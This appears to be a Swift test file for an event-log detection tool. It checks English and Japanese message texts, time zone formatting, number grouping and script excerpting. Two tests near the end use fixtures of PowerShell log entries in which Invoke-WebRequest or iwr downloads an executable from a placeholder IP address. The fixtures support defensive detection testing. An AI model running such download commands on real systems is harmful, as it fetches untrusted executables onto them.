import Detection
import EventFiles
import Events
import Foundation
import Testing
import Watches

@testable import Analysis
@testable import Reports

/// Texts in both languages, times and scripts.
@Suite struct WordsTests {
    private static let summary = ReportExamples.summary

    private static let problems: [ReadProblem.Kind] = [
        .fileHeader, .chunkMagic, .chunkChecksum, .truncated, .record, .malformed, .tooLarge(limit: 7),
        .unpacksTooLarge(limit: 7),
        .tooManyMembers(limit: 7), .packed, .unknownFormat,
    ]

    @Test("every problem is said in both languages, each in its own words", arguments: problems)
    func problem(kind: ReadProblem.Kind) {
        let problem = ReadProblem(file: "a\u{1b}.evtx", offset: 65_536, kind: kind)
        let en = ProblemText.text(problem, .en)
        let ja = ProblemText.text(problem, .ja)
        #expect(en.hasPrefix(#"a\x1b.evtx: "#) && ja.hasPrefix(#"a\x1b.evtx: "#))
        #expect(en.utf8.allSatisfy { $0 < 128 }, "\(en)")
        #expect(Self.isJapanese(ja), "\(ja)")
    }

    @Test("a problem names its line and column, or else its byte")
    func place() {
        let malformed = ReadProblem(file: "a", offset: 12, line: 3, column: 4, kind: .malformed)
        #expect(ProblemText.text(malformed, .en).hasPrefix("a: line 3, column 4: "))
        #expect(ProblemText.text(malformed, .ja).hasPrefix("a: 3行4桁: "))
        #expect(
            ProblemText.text(ReadProblem(file: "a", offset: 65_536, kind: .record), .en).hasPrefix(
                "a: at byte 0x10000: "))
        #expect(ProblemText.text(ReadProblem(file: "a", offset: 0, kind: .packed), .en) == "a: cannot be unpacked")
    }

    @Test("what the system refuses is said in both languages, or in the system's own words")
    func system() {
        let problem = ReadProblem(file: "a", offset: 0, kind: .system(errno: ENOENT))
        #expect(ProblemText.text(problem, .en) == "a: No such file or directory")
        #expect(ProblemText.text(problem, .ja) == "a: ファイルまたはフォルダーがありません")
        #expect(SystemError.text(EXDEV).ja == SystemError.text(EXDEV).en)
    }

    @Test("every message has words of both languages")
    func messages() {
        var texts = [
            Messages.unknownHost, Messages.unknownProcess, Messages.by, Messages.nothingFound, Messages.title,
            Messages.inputs,
            Messages.span, Messages.incomplete, Messages.andMore(1_000, "x.y"), Messages.unlisted(2),
            Messages.read(Self.summary, ReportExamples.clock), Messages.skipped(1), Messages.skipped(2),
            Messages.unreadable(1),
            Messages.unreadable(2), Messages.forgotten(3), Messages.inputs(["a", "b", "c", "d"], Self.summary),
        ]
        texts +=
            Level.allCases.map(Messages.level) + WatchName.allCases.map(Messages.watch)
            + LogName.allCases.map(Messages.log)
        for text in texts { expectBoth(text) }
    }

    @Test("every rule of every watch has words of both languages")
    func rules() {
        for watch in Watches.watches(.default) {
            for rule in watch.rules {
                expectBoth(rule.name)
                expectBoth(rule.falsePositives)
            }
        }
    }

    @Test("every reason of the browser watch has words of both languages")
    func reasons() {
        for name in BrowserReasonNames.all {
            guard let text = BrowserReasonText.text(name) else {
                Issue.record("\(name) has no words")
                continue
            }
            expectBoth(text)
        }
        #expect(BrowserReasonText.text("none of these") == nil)
    }

    private func expectBoth(_ text: Text, at location: SourceLocation = #_sourceLocation) {
        #expect(text.en != text.ja, sourceLocation: location)
        #expect(!text.en.isEmpty && !Self.isJapanese(text.en), "\(text.en)", sourceLocation: location)
        #expect(Self.isJapanese(text.ja), "\(text.ja)", sourceLocation: location)
    }

    private static func isJapanese(_ text: String) -> Bool {
        text.unicodeScalars.contains { (0x3040...0x30ff).contains($0.value) || (0x4e00...0x9fff).contains($0.value) }
    }

    @Test(
        "times are those of the zone, with its summer time",
        arguments: [
            ("Asia/Tokyo", Int64(1_775_001_600), "2026-04-01 09:00:00.250", "+09:00"),
            ("UTC", 1_775_001_600, "2026-04-01 00:00:00.250", "+00:00"),
            ("America/New_York", 1_775_001_600, "2026-03-31 20:00:00.250", "-04:00"),
            ("America/New_York", 1_767_225_600, "2025-12-31 19:00:00.250", "-05:00"),
            ("Asia/Kolkata", 1_775_001_600, "2026-04-01 05:30:00.250", "+05:30"),
            ("America/St_Johns", 1_767_225_600, "2025-12-31 20:30:00.250", "-03:30"),
            ("UTC", -1, "1969-12-31 23:59:59.250", "+00:00"),
        ])
    func time(zone: String, seconds: Int64, text: String, offset: String) {
        let clock = LocalTime(zone: TimeZone(identifier: zone))
        let time = Timestamp(ticks: seconds * Timestamp.ticksPerSecond + 2_500_000)
        #expect(clock.text(time) == text)
        #expect(clock.seconds(time) == text.dropLast(4))
        #expect(clock.offset(time) == offset)
    }

    @Test(
        "numbers are grouped",
        arguments: [(0, "0"), (999, "999"), (1_000, "1,000"), (-123_456, "-123,456"), (1_234_567, "1,234,567")])
    func grouped(number: Int, text: String) {
        #expect(Messages.grouped(number) == text)
    }

    @Test("of PowerShell's module log the command that was run is shown")
    func invocation() {
        let payload = """
            CommandInvocation(Invoke-WebRequest): "Invoke-WebRequest"
            ParameterBinding(Invoke-WebRequest): name="Uri"; value="http://198.51.100.7/a.exe"
            ParameterBinding(Invoke-WebRequest): name="OutFile"; value="a.exe"
            CommandInvocation(Out-Default): "Out-Default"
            """
        #expect(
            ScriptExcerpt.text(payload, around: "")
                == #"Invoke-WebRequest -Uri "http://198.51.100.7/a.exe" -OutFile "a.exe" | Out-Default"#)
    }

    @Test("of a long script the part around what was found is shown")
    func excerpt() {
        let script =
            String(repeating: "$a = 1;\n\t", count: 500) + "iwr http://198.51.100.7/"
            + String(repeating: " $b", count: 500)
        let text = ScriptExcerpt.text(script, around: "http://198.51.100.7/")
        #expect(text.contains("iwr http://198.51.100.7/ $b"))
        #expect(text.hasPrefix("… ") && text.hasSuffix(" …"))
        #expect(text.count <= 404)
        #expect(ScriptExcerpt.text("a\n  b", around: "") == "a b")
        #expect(ScriptExcerpt.text(script, around: "not there").hasPrefix("$a = 1;"))
    }
}
